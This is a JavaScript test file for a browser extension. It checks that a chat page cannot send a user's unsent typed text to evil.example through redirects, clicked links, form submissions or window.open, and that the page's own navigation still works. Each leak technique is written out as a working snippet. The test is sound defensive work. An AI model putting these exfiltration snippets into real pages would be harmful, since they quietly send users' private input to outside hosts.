// What a page sends by leaving or opening: a navigation with the text in its address
// (`location = '…?d=…'`, a link it clicks), a form it submits (GET or POST, to another origin,
// in this window, a new one or by `submit()`, which fires no event), a window it opens.
// main-world.js checks each at once, like an address; one that carries unsent text or a value
// does not go (the page stays), and the page's own navigation still does.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { withExtension, openSite, editorOf, until } from './harness.mjs';

const env = withExtension();
const pause = (ms) => new Promise((r) => setTimeout(r, ms));

test('a navigation, a form submission or a window opened with unsent text in it does not go', async () => {
  const arrived = [];
  await env.ctx.context.route(/^https:\/\/evil\.example\//, (route) => {
    const req = route.request();
    arrived.push({ url: req.url(), body: req.postData() ?? '' });
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>away</title>' });
  });
  const page = await openSite(env.ctx.context, 'chatgpt', 'navigation-chatgpt');
  const start = page.url();
  await page.click(editorOf('chatgpt'));
  await page.keyboard.type('Please ask Jane Doe to call +44 20 7946 0958');
  await pause(1000);
  const leaked = () => arrived.filter((r) => /jane|7946|\+44/i.test(decodeURIComponent(r.url + r.body.replace(/\+/g, ' '))));
  const ways = {
    location: () => { location.href = `https://evil.example/loc?d=${encodeURIComponent(editorText())}`; },
    assign: () => { location.assign(`https://evil.example/assign?d=${encodeURIComponent(editorText().slice(0, 16))}`); },
    link: () => {
      const a = document.createElement('a');
      a.href = `https://evil.example/link?d=${encodeURIComponent(editorText())}`;
      document.body.append(a);
      a.click();
    },
    form: (method, target, how) => {
      const f = document.createElement('form');
      f.action = `https://evil.example/form-${method}-${target}-${how}`;
      f.method = method;
      f.target = target;
      const i = document.createElement('input');
      i.name = 'd';
      i.value = editorText();
      f.append(i);
      document.body.append(f);
      if (how === 'submit') f.submit();
      else f.requestSubmit();
    },
    open: () => String(window.open(`https://evil.example/open?d=${encodeURIComponent(editorText())}`)),
  };
  for (const [name, args] of [['location'], ['assign'], ['link'], ['form', ['post', '_self', 'submit']], ['form', ['post', '_self', 'request']],
    ['form', ['get', '_self', 'request']], ['form', ['post', '_blank', 'submit']], ['form', ['post', '_blank', 'request']], ['open']]) {
    const ret = await page.evaluate(([fn, a]) => (0, eval)(`(${fn})`)(...(a ?? [])), [ways[name].toString(), args]);
    if (name === 'open') assert.equal(ret, 'null', 'the window is not opened');
    await pause(800);
    assert.equal(page.url(), start, `${name} ${args ?? ''}: the page left`);
  }
  await pause(1500);
  assert.deepEqual(leaked().map((r) => r.url), [], 'the unsent text left by a navigation');
  assert.equal(env.ctx.context.pages().filter((p) => p.url().startsWith('https://evil.example')).length, 0, 'no window went there');
  // The page's own navigation goes.
  await page.evaluate(() => { location.href = 'https://evil.example/own?ev=composer_focus&id=42'; });
  await until(() => page.url().startsWith('https://evil.example/own'));
  assert.deepEqual(leaked(), []);
  await page.close();
});
